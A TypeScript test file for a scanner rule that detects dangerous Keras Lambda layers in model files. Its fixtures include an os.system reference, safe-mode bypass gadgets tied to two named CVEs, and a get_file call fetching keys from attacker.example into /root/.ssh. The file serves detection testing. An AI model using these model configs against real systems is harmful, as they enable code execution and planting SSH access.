import { testRule } from '../../testing/rule-tester.js';
import { dense, hdf5, kerasArchive, kerasConfig, lambdaLayer } from './lib/builders/keras-builder.js';
import rule from './keras-lambda-layer.js';

const none = undefined as unknown as number;
const whole = { startLine: none, startColumn: none, endLine: none, endColumn: none };
const legacy = (layers: object[]) =>
  hdf5([
    ['keras_version', '2.15.0'],
    ['backend', 'tensorflow'],
    ['model_config', JSON.stringify({ class_name: 'Sequential', config: { name: 'seq', layers } })],
  ]);

testRule(rule, {
  valid: [
    { name: '.keras without Lambda', path: 'model.keras', content: kerasArchive(kerasConfig([dense('d1'), dense('d2')])) },
    { name: 'legacy .h5 without Lambda', path: 'model.h5', content: legacy([{ class_name: 'Dense', config: { name: 'd', units: 2 } }]) },
    { name: 'weights-only .h5', path: 'model.weights.h5', content: hdf5([]) },
    {
      name: 'a binary file named .keras that is no archive',
      path: 'model.keras',
      content: Uint8Array.from([0x00, 0x01, 0x02, 0xff, 0x50, 0x4b]),
    },
  ],
  invalid: [
    {
      name: '.keras Lambda layer (Keras 3 __lambda__ bytecode)',
      path: 'model.keras',
      content: kerasArchive(kerasConfig([dense('d'), lambdaLayer('scale')])),
      findings: [
        {
          ...whole,
          objectPath: '/config/layers/2',
          evidence: 'Lambda',
          message: "Keras Lambda layer 'scale' holds marshalled Python bytecode that runs when the model is loaded without safe mode",
        },
      ],
    },
    {
      name: '.keras archive with data put before it (zipfile, which load_model uses, finds the archive from its end)',
      path: 'model.keras',
      content: Uint8Array.from([...Buffer.from('#!/bin/sh\nexit 0\n'), ...kerasArchive(kerasConfig([dense('d'), lambdaLayer('scale')]))]),
      findings: [
        {
          ...whole,
          objectPath: '/config/layers/2',
          evidence: 'Lambda',
          message: /^Keras Lambda layer 'scale' holds marshalled Python bytecode/,
        },
      ],
    },
    {
      name: 'legacy .h5 Lambda layer (Keras 2 function list) and a function reference to os.system',
      path: 'model.h5',
      content: legacy([
        { class_name: 'Lambda', config: { name: 'lambda', function: ['4wEAAAAAAAAAAAAAAAEAAAAB', null, null], function_type: 'lambda' } },
        { class_name: 'Lambda', config: { name: 'lambda_1', function: 'system', function_type: 'function', module: 'os' } },
      ]),
      findings: [
        { ...whole, objectPath: '/config/layers/0', severity: 'high' },
        {
          ...whole,
          objectPath: '/config/layers/1',
          severity: 'critical',
          evidence: 'os.system',
          message: "Keras Lambda layer 'lambda_1' calls the Python function os.system (code execution) when the model runs",
        },
      ],
    },
    {
      name: 'safe-mode bypasses: Lambda references to Keras functions with arguments from the config (CVE-2025-9906, CVE-2025-8747)',
      path: 'model.keras',
      content: kerasArchive(
        kerasConfig([
          dense('d'),
          {
            module: 'keras.layers',
            class_name: 'Lambda',
            config: {
              name: 'unsafe',
              function: { module: 'keras.src.backend.common.global_state', class_name: 'function', config: 'set_global_attribute' },
              arguments: { name: 'safe_mode_saving', value: false },
            },
          },
          {
            module: 'keras.layers',
            class_name: 'Lambda',
            config: {
              name: 'fetch',
              function: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'function' },
              arguments: { origin: 'https://attacker.example/authorized_keys', cache_dir: '/root/.ssh' },
            },
          },
          {
            module: 'keras.layers',
            class_name: 'Lambda',
            config: { name: 'reload', function: { module: 'keras.saving', class_name: 'function', config: 'load_model' } },
          },
        ]),
      ),
      findings: [
        {
          ...whole,
          objectPath: '/config/layers/2',
          severity: 'critical',
          evidence: 'keras.src.backend.common.global_state.set_global_attribute',
          message:
            "Keras Lambda layer 'unsafe' calls the Python function keras.src.backend.common.global_state.set_global_attribute, which turns safe mode off, when the model runs",
        },
        {
          ...whole,
          objectPath: '/config/layers/3',
          severity: 'critical',
          evidence: 'keras.utils.get_file',
          message: /reaches the file system or the network/,
        },
        {
          ...whole,
          objectPath: '/config/layers/4',
          severity: 'critical',
          evidence: 'keras.saving.load_model',
          message: /loads another model/,
        },
      ],
    },
    {
      name: "Keras's saving module: a function that only registers or names objects is no gadget (medium), its savers and loaders are",
      path: 'model.keras',
      content: kerasArchive(
        kerasConfig([
          dense('d'),
          ...(
            [
              ['keras.saving', 'register_keras_serializable'],
              ['keras.saving', 'get_registered_object'],
              ['keras.saving', 'save_model'],
              ['keras.src.saving.saving_lib', 'load_weights_only'],
            ] as const
          ).map(([module, fn], i) => ({
            module: 'keras.layers',
            class_name: 'Lambda',
            config: { name: `l${i}`, function: { module, class_name: 'function', config: fn } },
          })),
        ]),
      ),
      findings: [
        {
          ...whole,
          objectPath: '/config/layers/2',
          severity: 'medium',
          evidence: 'keras.saving.register_keras_serializable',
          message: "Keras Lambda layer 'l0' calls the Python function keras.saving.register_keras_serializable when the model runs",
        },
        { ...whole, objectPath: '/config/layers/3', severity: 'medium', evidence: 'keras.saving.get_registered_object' },
        { ...whole, objectPath: '/config/layers/4', severity: 'critical', message: /save_model, which reaches the file system/ },
        { ...whole, objectPath: '/config/layers/5', severity: 'critical', message: /load_weights_only, which loads another model/ },
      ],
    },
    {
      name: "Keras's saving module: the file stores and the file editor open files (critical, as before the narrowing to loaders and savers); the other registry names stay medium",
      path: 'model.keras',
      content: kerasArchive(
        kerasConfig([
          dense('d'),
          ...(
            [
              ['keras.src.saving.saving_lib', 'H5IOStore'],
              ['keras.src.saving.saving_lib', 'DiskIOStore'],
              ['keras.saving', 'KerasFileEditor'],
              ['keras.src.saving.file_editor', 'KerasFileEditor'],
              ['keras.src.saving.serialization_lib', 'ObjectSharingScope'],
              ['keras.saving', 'get_registered_name'],
              ['keras.saving', 'get_custom_objects'],
              ['keras.saving', 'serialize_keras_object'],
            ] as const
          ).map(([module, fn], i) => ({
            module: 'keras.layers',
            class_name: 'Lambda',
            config: { name: `l${i}`, function: { module, class_name: 'function', config: fn } },
          })),
        ]),
      ),
      findings: [
        { ...whole, objectPath: '/config/layers/2', severity: 'critical', message: /H5IOStore, which reaches the file system/ },
        { ...whole, objectPath: '/config/layers/3', severity: 'critical', message: /DiskIOStore, which reaches the file system/ },
        {
          ...whole,
          objectPath: '/config/layers/4',
          severity: 'critical',
          message: /keras\.saving\.KerasFileEditor, which reaches the file system/,
        },
        {
          ...whole,
          objectPath: '/config/layers/5',
          severity: 'critical',
          message: /file_editor\.KerasFileEditor, which reaches the file system/,
        },
        { ...whole, objectPath: '/config/layers/6', severity: 'critical', message: /ObjectSharingScope, which loads another model/ },
        { ...whole, objectPath: '/config/layers/7', severity: 'medium', evidence: 'keras.saving.get_registered_name' },
        { ...whole, objectPath: '/config/layers/8', severity: 'medium', evidence: 'keras.saving.get_custom_objects' },
        { ...whole, objectPath: '/config/layers/9', severity: 'medium', evidence: 'keras.saving.serialize_keras_object' },
      ],
    },
  ],
});
